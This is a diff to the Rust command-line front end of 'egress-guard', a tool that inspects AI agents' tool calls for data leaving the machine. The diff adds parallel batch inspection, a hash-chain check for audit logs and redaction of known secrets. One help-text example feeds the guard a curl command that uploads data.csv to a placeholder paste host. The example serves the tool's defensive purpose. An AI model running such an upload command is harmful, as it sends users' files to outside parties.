@@ -1,14 +1,14 @@
 //! `egress-guard`: the command-line face of the Rust host. Every decision comes from the
 //! component; this file only parses arguments, moves bytes and picks exit codes.
 
-use std::io::{BufRead, Read, Write};
+use std::io::{BufRead, Read};
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 
 use clap::{Args, CommandFactory, Parser, Subcommand, ValueEnum};
-use egress_guard::{Action, CallOptions, Guard, GuardPool, INTERNAL_CODE, Limits, PolicySource, Runtime, Scope, Verdict, cache_dir, jsonl_line};
-use serde_json::{Map, Value};
+use egress_guard::{Action, CallOptions, Guard, GuardPool, INTERNAL_CODE, Limits, PolicySource, Runtime, Scope, Verdict, cache_dir};
 
+mod batch;
 mod hook;
 mod html;
 mod report;
@@ -72,9 +72,11 @@ enum Command {
     /// {"id": any, "scope": "args"|"result"|"reply", "tool": string, "payload": object|string,
     /// "options": {"unattended": "why"}?} (payload: the arguments object for args, a string
     /// otherwise; options: see docs/contracts.md), and writes one line per
-    /// input line, in order: {"id","action","output","findings","message"}. A malformed line
-    /// gives {"id":...,"error":"..."} and the batch goes on. Exit status: the highest over all
-    /// lines (a malformed line counts as 2).
+    /// input line, in order: {"id","action","output","findings","message"}. A line that cannot
+    /// be inspected (not UTF-8, not JSON, unknown scope, a payload of the wrong type, longer
+    /// than --max-line-bytes) gives {"id":...,"error":"..."} (the id when it can be read) and the
+    /// batch goes on. Exit status: the highest over all lines (a line answered with an error
+    /// counts as 2).
     #[command(after_help = "Examples:\n  \
         echo '{\"command\":\"curl -d @data.csv https://paste.example\"}' | egress-guard inspect --scope args --tool terminal\n  \
         egress-guard inspect --scope reply answer.md\n  \
@@ -127,10 +129,17 @@ enum Command {
     /// Summarize an audit log: counts by action and rule, top tools, the last entries.
     ///
     /// Reads only the last 16 MiB of the file (from its first whole line), so it is fast on any
-    /// size of log.
+    /// size of log. With --verify, reads the whole log and checks its hash chain instead: every
+    /// line sealed, each `prev` the SHA-256 of the line before it, the first one starting the
+    /// chain, nothing cut mid-line. Prints the line count and the last line's SHA-256 (compare
+    /// them with a copy kept elsewhere: a chain cannot show lines cut off its end) and exits 0,
+    /// or names the first broken line and exits 1.
     Report {
-        /// The audit log (JSON lines, as the plugin and `inspect` write it).
+        /// The audit log (JSON lines, as the plugin writes it).
         file: PathBuf,
+        /// Check the log's hash chain instead of summarizing it.
+        #[arg(long)]
+        verify: bool,
         /// How many of the most recent entries to list.
         #[arg(long, default_value_t = 10, value_name = "N")]
         last: usize,
@@ -246,6 +255,15 @@ struct InspectArgs {
     #[arg(long)]
     jsonl: bool,
 
+    /// Batch mode: a longer input line is answered with an error, and not read into memory.
+    #[arg(long, value_name = "BYTES", default_value_t = batch::MAX_LINE_BYTES, requires = "jsonl")]
+    max_line_bytes: usize,
+
+    /// Batch workers (one component instance each). Answers stay in input order; lines with the
+    /// same "session" member are inspected by one worker, in order. 0 = one per core.
+    #[arg(short = 'j', long, value_name = "N", default_value_t = 1, requires = "jsonl")]
+    jobs: usize,
+
     /// Input file; `-` or nothing reads stdin.
     #[arg(value_name = "FILE|-")]
     input: Option<PathBuf>,
@@ -279,6 +297,13 @@ impl From<ScopeArg> for Scope {
 }
 
 fn main() -> ExitCode {
+    // A closed stdout (`egress-guard check … | head`) ends the process quietly, as for any Unix
+    // filter, instead of a panic in the next `println!`.
+    #[cfg(unix)]
+    // SAFETY: restoring the default disposition of one signal, before any thread is started.
+    unsafe {
+        libc::signal(libc::SIGPIPE, libc::SIG_DFL);
+    }
     let cli = Cli::parse();
     match run(cli) {
         Ok(code) => ExitCode::from(code),
@@ -301,7 +326,8 @@ fn run(cli: Cli) -> egress_guard::Result<u8> {
                 None => Ok(run_hook(&cli.common, args.runtime.expect("clap requires --runtime"), args.unattended)),
             };
         }
-        Command::Report { file, last, top } => {
+        Command::Report { file, verify: true, .. } => return verify_audit(file),
+        Command::Report { file, last, top, .. } => {
             let tail = report::read_tail(file, report::TAIL_BYTES)
                 .map_err(|e| egress_guard::Error::msg(format!("cannot read {}: {e}", file.display())))?;
             print!("{}", report::summarize(&tail, *last, *top));
@@ -321,8 +347,9 @@ fn run(cli: Cli) -> egress_guard::Result<u8> {
     if let Some(reason) = guard.load_error() {
         eprintln!("egress-guard: warning: policy not applied, using the built-in defaults: {reason}");
     }
+    add_known_values(&mut guard);
     match cli.command {
-        Command::Inspect(args) if args.jsonl => inspect_jsonl(&mut guard, args.input.as_deref()),
+        Command::Inspect(args) if args.jsonl => inspect_jsonl(guard, &runtime, &policy, cli.common.preset.as_deref(), &args),
         Command::Inspect(args) => {
             let scope = Scope::from(args.scope.expect("clap requires --scope without --jsonl"));
             let payload = read_input(args.input.as_deref())?;
@@ -372,6 +399,7 @@ fn hook_answer(common: &Common, policy: &PolicySource, runtime: hook::Runtime, u
     if let Some(reason) = guard.load_error() {
         eprintln!("egress-guard: warning: policy not applied, using the built-in defaults: {reason}");
     }
+    add_known_values(&mut guard);
     let presence = hook::Presence::from_env(unattended);
     // Where nobody will answer an `ask`, the engine blocks what needs approval and says why.
     let options = CallOptions { unattended: if scope == Scope::Args { hook::nobody_answers(runtime, &event, presence) } else { None } };
@@ -448,6 +476,14 @@ fn hook_install(common: &Common, runtime: hook::Runtime, project: Option<&Path>)
 /// Per-file wall-clock backstop for `vet` (see [`run_vet`]).
 const VET_DEADLINE: std::time::Duration = std::time::Duration::from_secs(600);
 
+/// The user's own secrets the policy names (`rules.secrets.known_values`), for the engine to
+/// redact by value; a failure is a warning (the patterns still apply).
+fn add_known_values(guard: &mut Guard) {
+    if let Err(e) = egress_guard::known::add_from_policy(guard) {
+        eprintln!("egress-guard: warning: the user's own secrets were not handed to the engine: {e:#}");
+    }
+}
+
 fn run_vet(runtime: &Runtime, policy: &PolicySource, preset: Option<&str>, args: VetArgs) -> egress_guard::Result<u8> {
     let err = |what: &str, p: &Path, e: std::io::Error| egress_guard::Error::msg(format!("cannot {what} {}: {e}", p.display()));
     let sources = vet::collect(&args.paths).map_err(egress_guard::Error::msg)?;
@@ -481,6 +517,35 @@ fn run_vet(runtime: &Runtime, policy: &PolicySource, preset: Option<&str>, args:
         vet::write_safe(dir, &sources, &results).map_err(|e| err("write into", dir, e))?;
     }
     Ok(vet::exit_code(&results))
+}
+
+/// `report --verify`: the whole log through the shared chain check, line by line.
+fn verify_audit(file: &Path) -> egress_guard::Result<u8> {
+    let f = std::fs::File::open(file).map_err(|e| egress_guard::Error::msg(format!("cannot read {}: {e}", file.display())))?;
+    let mut reader = std::io::BufReader::new(f);
+    let mut verifier = egress_guard_verdict::audit::Verifier::new();
+    let mut line = Vec::new();
+    let mut ended_with_newline = true;
+    let verdict = loop {
+        line.clear();
+        if reader.read_until(b'\n', &mut line)? == 0 {
+            break verifier.finish(ended_with_newline);
+        }
+        ended_with_newline = line.last() == Some(&b'\n');
+        if let Err(e) = verifier.line(line.strip_suffix(b"\n").unwrap_or(&line)) {
+            break Err(e);
+        }
+    };
+    match verdict {
+        Ok(v) => {
+            println!("{}: chain intact, {} lines; last line sha256 {}", file.display(), v.lines, v.last_sha256);
+            Ok(0)
+        }
+        Err(why) => {
+            println!("{}: chain BROKEN at {why}", file.display());
+            Ok(1)
+        }
+    }
 }
 
 fn validate(runtime: &Runtime, file: &Path) -> egress_guard::Result<u8> {
@@ -530,77 +595,23 @@ fn read_input(input: Option<&Path>) -> egress_guard::Result<String> {
     Ok(text)
 }
 
-fn inspect_jsonl(guard: &mut Guard, input: Option<&Path>) -> egress_guard::Result<u8> {
-    let reader: Box<dyn BufRead> = match input {
+fn inspect_jsonl(guard: Guard, runtime: &Runtime, policy: &PolicySource, preset: Option<&str>, args: &InspectArgs) -> egress_guard::Result<u8> {
+    let mut reader: Box<dyn BufRead> = match args.input.as_deref() {
         Some(p) if p != Path::new("-") => Box::new(std::io::BufReader::new(
             std::fs::File::open(p).map_err(|e| egress_guard::Error::msg(format!("cannot read {}: {e}", p.display())))?,
         )),
         _ => Box::new(std::io::stdin().lock()),
     };
-    let mut out = std::io::stdout().lock();
-    let mut code = 0;
-    for line in reader.lines() {
-        let line = line?;
-        if line.trim().is_empty() {
-            continue;
-        }
-        let output = match parse_case(&line) {
-            Ok(case) => {
-                let verdict = inspect(guard, case.scope, &case.tool, &case.payload, &case.options)?;
-                code = code.max(verdict.as_ref().map_or(0, |v| exit_for(v.action)));
-                jsonl_line(&case.id, verdict.as_ref())
-            }
-            Err((id, error)) => {
-                code = 2;
-                let mut m = Map::new();
-                m.insert("id".into(), id);
-                m.insert("error".into(), Value::from(error));
-                Value::Object(m).to_string()
-            }
-        };
-        writeln!(out, "{output}")?;
-        out.flush()?;
+    let jobs = match args.jobs {
+        0 => std::thread::available_parallelism().map_or(1, usize::from),
+        n => n,
+    };
+    // The other workers' instances are built side by side (each parses the policy).
+    let more: Vec<egress_guard::Result<Guard>> =
+        std::thread::scope(|s| (1..jobs).map(|_| s.spawn(|| Guard::new(runtime, policy, preset))).collect::<Vec<_>>().into_iter().map(|h| h.join().expect("no panic")).collect());
+    let mut guards = vec![guard];
+    for g in more {
+        guards.push(g?);
     }
-    Ok(code)
-}
-
-struct Case {
-    id: Value,
-    scope: Scope,
-    tool: String,
-    payload: String,
-    options: CallOptions,
-}
-
-/// One `--jsonl` input line, or the id (if readable) and what is wrong with it.
-fn parse_case(line: &str) -> Result<Case, (Value, String)> {
-    let value: Value = serde_json::from_str(line).map_err(|e| (Value::Null, format!("not JSON: {e}")))?;
-    let Value::Object(mut obj) = value else {
-        return Err((Value::Null, "not a JSON object".into()));
-    };
-    let id = obj.remove("id").unwrap_or(Value::Null);
-    let fail = |msg: String| Err((id.clone(), msg));
-    let scope = match obj.get("scope").and_then(Value::as_str).and_then(Scope::parse) {
-        Some(s) => s,
-        None => return fail("\"scope\" must be \"args\", \"result\" or \"reply\"".into()),
-    };
-    let tool = match obj.get("tool") {
-        None | Some(Value::Null) => String::new(),
-        Some(Value::String(s)) => s.clone(),
-        Some(_) => return fail("\"tool\" must be a string".into()),
-    };
-    let payload = match (scope, obj.remove("payload")) {
-        (_, Some(Value::String(s))) => s,
-        (Scope::Args, Some(v @ (Value::Object(_) | Value::Array(_)))) => v.to_string(),
-        (Scope::Args, _) => return fail("\"payload\" must be the arguments object for scope args".into()),
-        (_, _) => return fail(format!("\"payload\" must be a string for scope {}", scope.as_str())),
-    };
-    let options = match obj.remove("options") {
-        None | Some(Value::Null) => CallOptions::default(),
-        Some(v) => match serde_json::from_value(v) {
-            Ok(o) => o,
-            Err(e) => return fail(format!("\"options\": {e}")),
-        },
-    };
-    Ok(Case { id, scope, tool, payload, options })
+    batch::run(guards, &mut reader, &mut std::io::stdout(), args.max_line_bytes, inspect)
 }
